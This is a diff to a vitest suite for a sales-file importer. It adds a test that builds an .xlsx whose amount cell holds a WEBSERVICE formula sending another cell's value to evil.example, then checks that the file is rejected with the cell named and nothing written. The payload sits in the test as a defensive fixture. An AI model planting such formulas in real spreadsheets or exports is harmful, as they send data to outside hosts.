@@ -1,3 +1,4 @@
+import * as XLSX from 'xlsx';
 import { createHash } from 'node:crypto';
 import { PutObjectCommand } from '@aws-sdk/client-s3';
 import { describe, expect, it } from 'vitest';
@@ -191,6 +192,23 @@ describe('sales files dropped into the bucket', () => {
     expect(file.doc.reason).toMatch(/^The xlsx file unpacks to .+, so it was not read\./);
     expect(file.logs).toEqual([]);
     expect(await getSale('demo', saleIdOf('demo', ref('B1')))).toBeUndefined();
+  });
+
+  it('a hostile file (an .xlsx with a formula cell among good rows): FAILED naming the cell, nothing written', async () => {
+    const sheet = XLSX.utils.aoa_to_sheet([
+      SALES_HEADER,
+      ['demo', 10, '01/11/2026', ref('F1')],
+      ['demo', 10, '01/11/2026', ref('F2')],
+    ]);
+    sheet.B3 = { t: 'n', v: 10, f: 'WEBSERVICE("http://evil.example/"&A2)' };
+    const workbook = XLSX.utils.book_new();
+    XLSX.utils.book_append_sheet(workbook, sheet, 'Sales');
+    const bytes = new Uint8Array(XLSX.write(workbook, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer);
+    const file = await drop(`${DROP_PREFIXES.SALES}${RUN}/formula.xlsx`, bytes);
+    expect(file.doc.status).toBe('FAILED');
+    expect(file.doc.reason).toMatch(/^Row 3, amount: the cell holds a formula \(=WEBSERVICE\(/);
+    expect(file.logs).toEqual([]);
+    expect(await getSale('demo', saleIdOf('demo', ref('F1')))).toBeUndefined();
   });
 
   it('the same object twice lands nothing twice; the same content under a new key fails every row as recorded', async () => {
